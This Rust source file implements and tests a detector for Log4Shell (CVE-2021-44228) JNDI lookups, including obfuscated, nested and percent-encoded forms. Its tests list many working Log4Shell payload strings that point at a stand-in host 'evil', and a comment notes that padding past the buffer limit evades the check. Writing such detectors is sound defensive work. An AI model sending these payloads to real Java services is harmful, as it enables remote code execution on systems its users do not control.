//! Log4Shell (CVE-2021-44228): `${jndi:ldap://...}` in text that a Java program may log, however
//! obfuscated with nested lookups.
//!
//! The text is read once, from left to right: percent-decoded, lower-cased, blanks removed. A
//! buffer holds what was read since the outermost `${` that is still open; when a `}` closes one of
//! the lookups that stand for text (`${lower:x}`, `${::-x}`, `${env:NAME:-x}`), that text replaces
//! it. So nested lookups resolve from the inside out, as log4j does it, in linear time.

use super::{Argument, Function, Parameter, argument, pure};
use crate::expr::Mode;
use arrayvec::ArrayVec;
use memchr::memmem;

pub(super) static LOG4SHELL: Function = pure(
    "em_check_log4shell",
    "1 when text has a JNDI lookup by LDAP or RMI, also an obfuscated one",
    &[Parameter::Bytes],
    log4shell,
);

/// Bytes kept of one outermost lookup. The longest published obfuscations have some 200; whoever
/// pads a lookup beyond this evades the check, and would evade a larger bound just as well.
const LOOKUP_MAX: usize = 4_096;

/// Lookups open at the same time: deeper ones are not taken for lookups.
const OPEN_MAX: usize = 64;

fn log4shell(arguments: &[Argument<'_>], mode: Mode) -> i64 {
    let text = argument(arguments, 0).text(mode);
    // Almost no text has either, and a lookup cannot do without.
    if memchr::memchr2(b'$', b'%', text).is_none() {
        return 0;
    }
    let mut scan = Scan::new();
    i64::from(decoded(text).any(|byte| scan.push(byte)))
}

/// `text` percent-decoded, in lower case, without blanks.
fn decoded(text: &[u8]) -> impl Iterator<Item = u8> {
    let mut rest = text;
    std::iter::from_fn(move || {
        let (byte, behind) = match rest {
            [b'%', high, low, behind @ ..] => match (hex(*high), hex(*low)) {
                (Some(high), Some(low)) => (high * 16 + low, behind),
                _ => (b'%', rest.get(1..).unwrap_or_default()),
            },
            [byte, behind @ ..] => (*byte, behind),
            [] => return None,
        };
        rest = behind;
        Some(byte.to_ascii_lowercase())
    })
    .filter(|byte| !byte.is_ascii_whitespace())
}

fn hex(digit: u8) -> Option<u8> {
    let value = char::from(digit).to_digit(16)?;
    u8::try_from(value).ok()
}

struct Scan {
    /// From the outermost open `${` on; empty, or a `$` that may start one, when none is open.
    text: ArrayVec<u8, LOOKUP_MAX>,
    /// Where in `text` the open ones start.
    open: ArrayVec<usize, OPEN_MAX>,
}

impl Scan {
    fn new() -> Self {
        Self {
            text: ArrayVec::new(),
            open: ArrayVec::new(),
        }
    }

    /// One more byte. True when it completes what is looked for.
    fn push(&mut self, byte: u8) -> bool {
        match byte {
            b'{' if self.text.last() == Some(&b'$') && !self.open.is_full() => {
                self.open.push(self.text.len() - 1);
                self.append(byte);
            }
            b'}' if !self.open.is_empty() => self.close(),
            b'$' => self.append(byte),
            _ if self.open.is_empty() => self.text.clear(),
            b'/' => {
                self.append(byte);
                return self.is_attack();
            }
            _ => self.append(byte),
        }
        false
    }

    fn append(&mut self, byte: u8) {
        if self.text.is_full() {
            self.forget();
        }
        // There is room: forgetting leaves at most half of it in use.
        let _ = self.text.try_push(byte);
    }

    /// Give up the outermost lookups, until half of the buffer is free.
    fn forget(&mut self) {
        let keep = LOOKUP_MAX / 2;
        let first = self.open.iter().position(|start| *start >= keep);
        let gone = first.unwrap_or(self.open.len());
        let start = self.open.get(gone).copied().unwrap_or(self.text.len());
        self.open.drain(..gone);
        self.text.drain(..start);
        for place in &mut self.open {
            *place = place.saturating_sub(start);
        }
    }

    /// The innermost open lookup ends: put what it stands for in its place.
    fn close(&mut self) {
        let Some(start) = self.open.pop() else {
            return;
        };
        let body = self.text.get(start.saturating_add(2)..).unwrap_or_default();
        if let Some(length) = replacement(body) {
            let from = self.text.len().saturating_sub(length);
            self.text.copy_within(from.., start);
            self.text.truncate(start.saturating_add(length));
        } else {
            self.append(b'}');
        }
        if self.open.is_empty() && self.text.last() != Some(&b'$') {
            self.text.clear();
        }
    }

    /// `${` ... `jndi` ... `:ldap://` or `:rmi://`, the end just read.
    fn is_attack(&self) -> bool {
        let text = self.text.as_slice();
        let before = text
            .strip_suffix(b":ldap://")
            .or_else(|| text.strip_suffix(b":rmi://"));
        before.is_some_and(|text| memmem::find(text, b"jndi").is_some())
    }
}

/// Length of the end of `body` that the lookup `${body}` stands for; `None` when it is not text.
fn replacement(body: &[u8]) -> Option<usize> {
    for name in [b"lower:", b"upper:"] {
        if let Some(text) = body.strip_prefix(name) {
            return Some(text.len());
        }
    }
    // The value of a variable, or what stands behind `:-` when there is none; that is what an
    // attacker who does not know the variables relies on.
    let default = memmem::find(body, b":-")?;
    body.len().checked_sub(default.checked_add(2)?)
}

#[cfg(test)]
mod tests {
    use super::super::call;
    use super::*;

    fn both(text: &str) -> [i64; 2] {
        let arguments = [Argument::Bytes(text.as_bytes())];
        [Mode::Standard, Mode::Compat].map(|mode| call(&LOG4SHELL, &arguments, mode))
    }

    #[test]
    fn lookups_are_found_however_written() {
        for text in [
            "${jndi:ldap://evil/a}",
            "x ${jndi:ldap://evil",
            "${JNDI:RMI://evil/a}",
            "$ { jndi : ldap : / / evil}",
            "/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D",
            "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil}",
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil}",
            "${${upper:${lower:j}}ndi:ldap://x}",
            "$${jndi:ldap://x}",
            "${a}${jndi:ldap://x}",
            "${x:${jndi:ldap://x}}",
            "${${lower:jn}di:ldap://x",
        ] {
            assert_eq!(both(text), [1, 1], "{text}");
        }
    }

    #[test]
    fn other_text_is_left_alone() {
        for text in [
            "",
            "${",
            "}",
            "$",
            "${}",
            "100% of $5",
            "jndi:ldap://x",
            "${jndi}:ldap://x",
            "${jndi:http://x}",
            "ldap://x ${jndi:x}",
            "${jndi} ldap://",
            "%zz%4",
        ] {
            assert_eq!(both(text), [0, 0], "{text}");
        }
        assert_eq!(both("a\0${jndi:ldap://x}"), [1, 0]);
    }

    #[test]
    fn padding_is_bounded() {
        let pad = |n| format!("${{env:{}:-j}}", "a".repeat(n));
        assert_eq!(both(&format!("${{{}ndi:ldap://x}}", pad(4_000))), [1, 1]);
        assert_eq!(both(&format!("${{{}ndi:ldap://x}}", pad(5_000))), [0, 0]);
        // What overflows is forgotten, and what follows is still found.
        assert_eq!(both(&format!("{}${{jndi:ldap://x}}", pad(9_000))), [1, 1]);
        assert_eq!(both(&"${".repeat(50_000)), [0, 0]);
        assert_eq!(both(&"${a".repeat(50_000)), [0, 0]);
        let late = format!("{}${{jndi:ldap://x}}", "${".repeat(5_000));
        assert_eq!(both(&late), [1, 1]);
    }

    #[test]
    fn random_text_of_its_alphabet_never_panics() {
        let mut seed = 0x5eed_u64;
        for _ in 0..2_000 {
            let text: String = (0..400)
                .map(|_| {
                    seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
                    let parts = [
                        "$", "{", "}", ":", "-", "j", "lower:", ":-", "//", "${", "%2",
                    ];
                    parts[usize::try_from(seed >> 33).unwrap() % parts.len()]
                })
                .collect();
            both(&text);
        }
    }
}
